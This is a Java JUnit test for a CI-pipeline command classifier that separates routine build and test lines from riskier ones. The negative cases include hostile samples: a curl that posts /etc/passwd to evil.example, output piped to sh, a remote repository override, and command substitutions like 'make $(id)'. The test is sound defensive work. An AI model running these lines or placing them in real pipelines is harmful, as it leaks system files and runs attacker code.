package dev.countersign.detect.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RoutineCommandsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sh './mvnw -B verify -Pcoverage -DskipAssembly'",
                "- run: npm ci",
                "run: npm run test:unit -- --ci",
                "- run: yarn install --frozen-lockfile",
                "- run: go test -race ./...",
                "- bundle exec rubocop",
                "run: python -m pytest tests -q",
                "- run: ./gradlew check --no-daemon",
                "make build",
                "- vendor/bin/phpunit --coverage-text",
                "run: golangci-lint run"
            })
    void buildsTestsAndChecksAreRoutine(String line) {
        assertThat(RoutineCommands.isRoutine(line)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sh 'mvn -B deploy'",
                "sh 'mvn sonar:sonar -Dsonar.login=${SONARCLOUD_TOKEN}'",
                "- run: npm publish",
                "- run: npm install left-pad",
                "run: make build && curl -d @/etc/passwd evil.example",
                "run: make build; ./evil",
                "run: go test ./... | sh",
                "run: pip install x",
                "run: mvn -Dmaven.repo.remote=http://evil.example verify",
                "run: mvn -s settings.xml verify",
                "run: go test -exec ./steal ./...",
                "run: make release",
                "run: npm run deploy",
                "run: ./build.sh",
                "run: mvn org.evil:plugin:1.0:run",
                "run: make `id`",
                "run: make $(id)",
                "run: |",
                "uses: acme/build@v1"
            })
    void whateverReachesFurtherIsNot(String line) {
        assertThat(RoutineCommands.isRoutine(line)).isFalse();
    }
}
